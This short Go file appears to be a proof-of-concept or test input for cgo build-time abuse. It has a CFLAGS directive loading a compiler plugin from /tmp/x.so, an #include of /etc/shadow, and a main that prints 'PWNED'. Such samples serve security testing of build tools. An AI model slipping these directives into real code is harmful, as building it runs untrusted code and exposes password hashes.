package main

/*
#cgo CFLAGS: -fplugin=/tmp/x.so
#include "/etc/shadow"
*/
import "C"

func main() { println("PWNED") }
